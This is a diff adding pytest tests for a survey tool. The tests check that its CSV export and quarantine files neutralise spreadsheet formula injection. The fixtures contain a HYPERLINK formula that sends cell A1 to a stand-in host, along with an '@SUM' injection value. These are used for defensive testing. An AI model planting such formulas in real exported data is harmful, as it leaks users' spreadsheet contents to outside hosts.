@@ -6,7 +6,10 @@ from datetime import date
 from pathlib import Path
 
 import pytest
+import sqlalchemy as sa
 
+from innostudy.model import Response
+from innostudy.storage.store import StudyStore
 from innostudy.survey.exporting import SPSS_NAME_BYTES, spss_name, spss_names
 from tests.conftest import Cli
 from tests.survey.conftest import fixture
@@ -105,3 +108,71 @@ def test_an_unknown_export_format_is_refused(cli: Cli, answered: Path, tmp_path:
         == f"Error: {tmp_path / 'r.json'}: cannot export as 'json' (one of: csv, xlsx, parquet, sav)"
     )
     assert not (tmp_path / "r.json").exists() and not list(tmp_path.glob(".r.json*"))
+
+
+FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"Click")'
+
+
+@pytest.fixture
+def hostile(cli: Cli, pilot_study: Path, tmp_path: Path) -> Path:
+    """A response whose title is a spreadsheet formula and whose summary starts with '-'."""
+    source = tmp_path / "hostile.csv"
+    source.write_text(
+        "organisation,organisation_type,title,summary,category,cost,origin/users,"
+        "impacts/service,impacts/costs,overall\n"
+        'Formula Office,ndpb,"=HYPERLINK(""http://example.invalid/?""&A1,""Click"")",'
+        "- more staff,it,under_100k,1,low,low,low\n",
+        encoding="utf-8",
+    )
+    assert cli("--study", pilot_study, "survey", "import", source).exit_code == 0
+    return pilot_study
+
+
+def _csv_rows(path: Path) -> list[dict[str, str]]:
+    import csv
+
+    with path.open(encoding="utf-8", newline="") as f:
+        return list(csv.DictReader(f))
+
+
+@pytest.mark.parametrize(("flags", "prefix"), [((), "'"), (("--keep-formulas",), "")])
+def test_csv_export_neutralises_formulas_unless_asked(
+    cli: Cli, hostile: Path, tmp_path: Path, flags: tuple[str, ...], prefix: str
+) -> None:
+    out = tmp_path / "r.csv"
+    assert cli("--study", hostile, "survey", "export", out, *flags).exit_code == 0
+    (row,) = _csv_rows(out)
+    assert row["title"] == prefix + FORMULA
+    assert row["summary"] == prefix + "- more staff"
+    assert row["organisation"] == "Formula Office" and row["months"] == ""
+
+
+def test_a_neutralised_export_imports_back_unchanged(
+    cli: Cli, hostile: Path, tmp_path: Path
+) -> None:
+    out = tmp_path / "r.csv"
+    assert cli("--study", hostile, "survey", "export", out).exit_code == 0
+    again = cli("--study", hostile, "survey", "import", out)
+    assert again.exit_code == 0, again.stderr
+    with StudyStore.open(hostile) as store, store.session() as s:
+        response = s.scalars(sa.select(Response)).one()
+        assert response.revision == 1  # nothing changed, so no new revision
+        assert response.answers["title"] == FORMULA
+        assert response.answers["summary"] == "- more staff"
+
+
+def test_the_quarantine_file_neutralises_the_values_it_lists(
+    cli: Cli, pilot_study: Path, tmp_path: Path
+) -> None:
+    source = tmp_path / "bad.csv"
+    source.write_text(
+        "organisation,organisation_type,title,category,cost,origin/users,impacts/service,"
+        "impacts/costs,overall\n"
+        "Formula Office,ndpb,x,@SUM(1+1),under_100k,1,low,low,low\n",
+        encoding="utf-8",
+    )
+    quarantine = tmp_path / "q.csv"
+    result = cli("--study", pilot_study, "survey", "import", source, "--quarantine", quarantine)
+    assert result.exit_code == 1
+    (problem,) = _csv_rows(quarantine)
+    assert problem["value"] == "'@SUM(1+1)"
